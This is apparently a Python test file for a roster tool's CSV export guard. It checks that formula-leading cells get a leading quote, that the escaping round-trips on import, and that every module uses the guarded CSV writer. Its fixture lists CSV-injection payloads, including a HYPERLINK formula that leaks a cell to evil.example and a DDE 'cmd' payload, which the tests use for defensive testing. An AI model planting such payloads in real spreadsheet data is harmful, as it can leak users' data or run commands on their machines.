"""CSV exports never carry a live formula, and a roster export imports back unchanged.

Members choose their display names; the operator opens exports in a spreadsheet. Every
CSV goes through chalicelib/domain/csvsafe.py (a cell starting with = + - @ tab or CR gets
a leading quote), and the roster importer removes exactly the quote the exporter added.
"""

from __future__ import annotations

import ast
import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner

from chalicelib.domain import csvsafe
from chalicelib.domain.models import Role
from rollcall.cli import main
from rollcall.context import open_store
from tests.helpers import member

ROOT = Path(__file__).resolve().parents[2]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "u1": '=HYPERLINK("https://evil.example/?x="&A1,"click me")',
    "u2": "@SUM(A1:A9)",
    "u3": "+1",
    "u4": "-1+cmd|' /C calc'!A0",
    "u5": "\tTabbed",
    "u6": "\rCarriage",
    "u7": "'=looks quoted already",
    "u8": "'til dawn",
    "u9": "''two quotes",
    "u10": "Plain Name",
}


@pytest.fixture
def cli():
    runner = CliRunner()

    def run(*args: str):
        result = runner.invoke(main, list(args), catch_exceptions=False)
        assert result.exit_code == 0, result.output + result.stderr
        return result.stdout

    return run


@pytest.fixture
def cid(cli) -> str:
    created = cli(
        "community", "create", "--name", "Writers", "--platform", "console",
        "--chat-id", "room-1", "--locale", "en", "--json",
    )  # fmt: skip
    community_id = json.loads(created)["id"]
    with open_store() as store:
        store.bulk_save_members(
            member(
                user_id,
                community_id=community_id,
                name=name,
                squad="=A1" if user_id == "u1" else None,
                # a position stored from an older, laxer setting: its cell is guarded too
                position="+Officer" if user_id == "u3" else None,
                role=Role.OWNER if user_id == "u10" else Role.MEMBER,
                joined_at=date(2026, 11, 1),
                last_active=date(2026, 9, 1),
            )
            for user_id, name in HOSTILE.items()
        )
    return community_id


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_STARTS), row


def test_roster_export_neutralises_formulas_and_imports_back_unchanged(cli, cid, tmp_path):
    exported = cli("member", "export", "--community", cid)
    rows = cells(exported)
    assert_no_live_formula(rows)
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id["u2"][1] == "'@SUM(A1:A9)" and by_id["u1"][3] == "'=A1"
    assert by_id["u7"][1] == "''=looks quoted already"  # the real quote is kept as well
    assert by_id["u8"][1] == "'til dawn" and by_id["u10"][1] == "Plain Name"
    header = rows[0]
    assert header[-2:] == ["position", "duty_served"]
    assert by_id["u3"][header.index("position")] == "'+Officer"
    path = tmp_path / "roster.csv"
    path.write_text(exported, encoding="utf-8")
    cli("member", "import", "--community", cid, str(path))
    with open_store() as store:
        names = {m.user_id: m.name for m in store.list_members(cid)}
        assert store.get_member(cid, "u1").squad == "=A1"
        assert store.get_member(cid, "u3").position == "+Officer"  # kept, never imported
    assert names == HOSTILE
    assert cli("member", "export", "--community", cid) == exported


def test_report_csv_neutralises_formulas_and_json_keeps_names(cli, cid):
    args = ("report", "monthly", "--community", cid, "--month", "2026-11")
    at = ("--at", "2026-12-01T10:00:00+08:00")
    rows = cells(cli(*args, *at, "--csv"))
    assert_no_live_formula(rows)
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["u1"] == "'" + HOSTILE["u1"] and names["u5"] == "'\tTabbed"
    data = json.loads(cli(*args, *at, "--json"))
    assert {row["user_id"]: row["name"] for row in data["rows"]} == HOSTILE


@pytest.mark.parametrize("text", [*HOSTILE.values(), "", "'", "''", "'-", "=", "naïve"])
def test_cell_and_uncell_are_inverse(text):
    assert csvsafe.uncell(csvsafe.cell(text)) == text
    assert not csvsafe.cell(text).startswith(FORMULA_STARTS)


def test_every_csv_writer_is_the_safe_one():
    """A new export that builds its own csv.writer would skip the guard."""
    found = []
    for path in [*ROOT.glob("chalicelib/**/*.py"), *ROOT.glob("rollcall/**/*.py")]:
        if path.name == "csvsafe.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            attribute = (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            )
            imported = (
                isinstance(node, ast.ImportFrom)
                and node.module == "csv"
                and any(alias.name in ("writer", "DictWriter") for alias in node.names)
            )
            if attribute or imported:
                found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert found == []
